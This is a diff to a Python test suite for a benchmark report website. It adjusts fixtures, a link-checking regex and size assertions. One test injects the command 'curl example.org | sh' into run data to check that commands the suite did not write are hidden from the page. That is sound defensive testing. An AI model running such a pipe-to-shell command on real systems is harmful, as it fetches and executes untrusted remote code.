@@ -17,6 +17,7 @@ from report.results import Results
 from report.site import entry_media
 from tests.report import bundles
 from tests.report.site import alone
+from tests.report.variations import only
 
 TAG = re.compile(r"<[^>]*>")
 
@@ -74,7 +75,7 @@ def test_the_fullest_tier_comes_first(invented: Path) -> None:
 
 
 def test_a_command_that_the_suite_did_not_write_is_not_shown(tmp_path: Path) -> None:
-    bundle = bundles.bundle(tiers=("standard",))
+    bundle = only(bundles.bundle(tiers=("standard",)), {"lenet5_1998"})
     runs = bundle.runs.assign(command="curl example.org | sh")
     page = alone.read(
         alone.build(from_bundle(dataclasses.replace(bundle, runs=runs)), tmp_path), "lenet5_1998"
@@ -91,7 +92,7 @@ def test_a_command_that_the_suite_did_not_write_is_not_shown(tmp_path: Path) -> 
 
 
 def test_runs_that_did_not_end_well_are_told(tmp_path: Path) -> None:
-    bundle = bundles.bundle(tiers=("standard",))
+    bundle = only(bundles.bundle(tiers=("standard",)), {"lenet5_1998"})
     lenet = bundle.runs["entry"] == "lenet5_1998"
     runs = bundle.runs.assign(status=bundle.runs["status"].mask(lenet, "diverged"))
     page = alone.read(
@@ -117,7 +118,7 @@ def test_every_link_leads_somewhere(installed: Path, invented: Path) -> None:
     for folder in (installed, invented):
         for file in folder.rglob("*.html"):
             ids[file] = set(re.findall(r' id="([^"]+)"', file.read_text(encoding="utf-8")))
-    rest = re.compile(r"(index|tracks|claims|machines|runs|data|methods)\.html|tables/\w+\.csv")
+    rest = re.compile(r"(index|tracks|claims|machines|runs|data|methods|tracks/\w+)\.html|tables/\w+\.csv")
     for file in ids:
         page = file.read_text(encoding="utf-8")
         links = re.findall(r'<a [^>]*href="([^"]+)"', page)
@@ -153,7 +154,9 @@ def test_the_source_of_an_installed_entry_is_shown(installed: Path, invented: Pa
     path = "benchmarks/entries/convolutional/lenet5_1998.py"
     assert f'href="https://example.org/suite/{path}"' in page
     told = text(section(page, "source"))
-    assert "came from another version of it, or of a file that it uses: mnist, standard tier" in told
+    assert re.search(
+        "came from another version of it, or of a file that it uses: .*mnist, standard tier", told
+    )
     page = alone.read(invented, "lenet5_1998")
     assert "no source code to show" in text(section(page, "source")) and 'class="code"' not in page
 
@@ -190,14 +193,8 @@ def test_pictures_take_bounded_room(small: records.Bundle, tmp_path: Path) -> No
     }
     folder = alone.build(from_bundle(dataclasses.replace(small, pictures=pictures)), tmp_path)
     page = alone.read(folder, small.runs["entry"].iloc[0])
-    assert "more pictures: see the bundle." in page
+    assert "more pictures: see the bundle." in page and 0 < page.count("data:image/png") < 15
     assert len(page) < entry_media.MOST_PICTURE_BYTES + 200_000
-
-
-def test_an_entry_of_forty_machines_has_a_page_of_bounded_size(forty: Results, tmp_path: Path) -> None:
-    folder = alone.build(forty, tmp_path)
-    for id in forty.entries:
-        assert len(alone.read(folder, id)) < 1_000_000
 
 
 @pytest.mark.parametrize("width", [320, 390, 768, 1280])
